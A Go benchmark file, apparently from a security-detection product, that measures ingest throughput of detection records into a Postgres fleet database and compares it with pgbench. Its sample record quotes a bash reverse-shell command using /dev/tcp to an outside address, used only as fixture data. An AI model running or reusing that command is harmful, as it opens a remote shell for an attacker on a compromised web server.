package db_test

import (
	"context"
	"fmt"
	"os"
	osexec "os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"testing"

	"bittern/internal/require"
)

// A record as a detection of an executed program has it, some 800 bytes.
const benchBody = `{"kind":"detection","rule":{"id":"BT0001","version":3,"name":"Shell with network connection"},"severity":"high",` +
	`"process":{"pid":4711,"ppid":4710,"executable":"/usr/bin/bash","command_line":"bash -c exec 5<>/dev/tcp/198.51.100.7/443; cat <&5","uid":33,` +
	`"parent":{"pid":4710,"executable":"/usr/sbin/apache2","command_line":"/usr/sbin/apache2 -k start"},"cwd":"/var/www/html"},` +
	`"host":{"hostname":"web-1","id":"0123456789abcdef0123456789abcdef","boot_id":"01234567-89ab-cdef-0123-456789abcdef"},` +
	`"tags":[{"tactic":"TA0002","technique":"T1059","sub_technique":"T1059.004","confidence":0.8}],"time":"2026-01-02T03:04:05.678901234Z"}`

// BenchmarkIngest measures rows a second by the size of a batch, over TLS by one connection, and beside it pgbench that inserts rows of
// the same content one by one in a plain table, with one client too.
func BenchmarkIngest(b *testing.B) {
	f := newFleet(b)
	h := f.host("a")
	exec(b, f.super, "UPDATE fleet.settings SET rows_per_day = 1e12, bytes_per_day = 1e15")
	for _, size := range []int{1, 10, 100, 500, 1000} {
		b.Run(fmt.Sprintf("rows=%d", size), func(b *testing.B) {
			rows := 0
			for b.Loop() {
				b.StopTimer()
				d := detections(size, benchBody)
				b.StartTimer()
				if _, err := d.send(b.Context(), h.conn); err != nil {
					b.Fatal(err)
				}
				rows += size
			}
			b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
		})
	}
	b.Run("sync", func(b *testing.B) {
		a := &agent{conn: h.conn}
		for b.Loop() {
			if err := a.sync(b.Context()); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("heartbeat", func(b *testing.B) {
		for b.Loop() {
			exec(b, h.conn, "SELECT fleet.agent_sync_v1(1, NULL, '{\"outbox_records\": 1, \"rss\": 1000000}')")
		}
	})
	b.Run("pgbench", func(b *testing.B) {
		for b.Loop() {
			tps, err := pgbench(b.Context(), b, f)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportMetric(tps, "rows/s")
		}
	})
}

var tpsLine = regexp.MustCompile(`tps = ([0-9.]+)`)

func pgbench(ctx context.Context, b *testing.B, f *fleet) (float64, error) {
	program := require.Tool(b, "pgbench")
	exec(b, f.super, "DROP TABLE IF EXISTS public.plain")
	exec(b, f.super, "CREATE TABLE public.plain (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), at timestamptz DEFAULT now(), body jsonb)")
	script := filepath.Join(b.TempDir(), "insert.sql")
	if err := os.WriteFile(script, []byte("INSERT INTO public.plain (body) VALUES ('"+benchBody+"');\n"), 0o644); err != nil {
		return 0, err
	}
	out, err := osexec.CommandContext(ctx, program, "-h", f.Socket, "-p", strconv.Itoa(f.Port), "-U", "postgres", "-n", "-M", "prepared", "-c", "1", "-T", "5", "-f", script, f.Name).CombinedOutput()
	if err != nil {
		return 0, fmt.Errorf("running pgbench: %w: %s", err, out)
	}
	m := tpsLine.FindSubmatch(out)
	if m == nil {
		return 0, fmt.Errorf("running pgbench: no figure in %s", out)
	}
	return strconv.ParseFloat(string(m[1]), 64)
}
